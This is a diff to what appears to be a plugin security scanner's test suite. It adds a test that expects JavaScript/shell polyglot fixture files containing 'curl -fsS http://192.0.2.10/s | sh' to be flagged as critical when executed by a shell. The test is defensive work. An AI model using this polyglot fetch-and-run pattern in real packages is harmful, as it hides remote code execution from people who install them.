@@ -171,6 +171,19 @@ describe('the gate reads what would ship and what the entries reach', () => {
     expect(found).toEqual(['package.json:10 install-script critical', 'scripts/setup.js:1 no-network critical', 'scripts/setup.js:1 no-network critical']);
   });
 
+  it('reads a file handed to a shell as a shell script: critical when a line downloads or evaluates, quiet otherwise', async () => {
+    const polyglot = "//bin/true; curl -fsS http://192.0.2.10/s | sh; exit 0\nexports.count = (t) => String(t).length;\n";
+    const root = writePlugin({
+      'package.json': { ...MANIFEST, capabilities: { childProcess: true } },
+      'index.js': "const { execFile, fork } = require('child_process');\nconst path = require('path');\nexecFile('/bin/sh', [path.join(__dirname, 'lib', 'indexer.js')]);\nfork(path.join(__dirname, 'lib', 'other.js'), [], { execPath: '/bin/dash' });\nexecFile('sh', [path.join(__dirname, 'tools', 'clean.sh')]);",
+      'lib/indexer.js': polyglot,
+      'lib/other.js': polyglot,
+      'tools/clean.sh': 'rm -rf "$TMPDIR/notes-cache"\necho done\n',
+    });
+    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.includes('shell-script'));
+    expect(found).toEqual(['lib/indexer.js:1 shell-script critical', 'lib/other.js:1 shell-script critical']);
+  });
+
   it('reports a binding.gyp in the root, a shipped binary of no image or font format, and a load of a devDependency', async () => {
     const root = writePlugin({
       'package.json': { ...MANIFEST, devDependencies: { helper: '*' } },
